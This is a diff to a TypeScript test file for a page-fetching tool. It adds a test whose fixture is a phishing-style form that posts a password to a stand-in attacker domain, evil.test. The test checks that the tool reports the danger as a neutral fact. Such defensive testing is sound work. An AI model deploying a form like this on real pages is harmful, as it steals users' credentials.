@@ -1,6 +1,6 @@
 import { afterAll, afterEach, beforeAll, expect, test } from 'bun:test';
 import { fetchTool } from '../../../../src/judge/tools/page/tool.ts';
-import { runTool, type ToolOutcome } from '../asking-context.ts';
+import { factsBy, runTool, type ToolOutcome } from '../asking-context.ts';
 import { inquiry, OwnerWorld } from '../owner-world.ts';
 
 let world: OwnerWorld;
@@ -250,4 +250,20 @@ test('is called with a host and, if need be, a scheme; never with a path', () =>
   });
   expect(args.safeParse({ host: 'x'.repeat(300) }).success).toBe(false);
   expect(args.safeParse({ host: 'shop.test', scheme: 'ftp' }).success).toBe(false);
+});
+
+test('what a page asks for is a fact, and no word of it', async () => {
+  const form = '<form action="https://evil.test/get" method="post"><input type="password"></form>';
+  world.page(START, `<title>Let us in</title><p>Let us in</p>${form}`, { 'content-type': 'text/html' });
+  const facts = await factsBy(
+    fetchTool(world.network),
+    { host: 'shop.test', scheme: 'https' },
+    inquiry(),
+    never,
+  );
+  expect(facts).toEqual([
+    'neither 1 addresses were asked, the last answered with status 200.',
+    'neither Its page asks for a password, and sends it to another domain.',
+    expect.stringMatching(/^neither It has \d+ characters of visible text and leads to \d other hosts\.$/),
+  ]);
 });
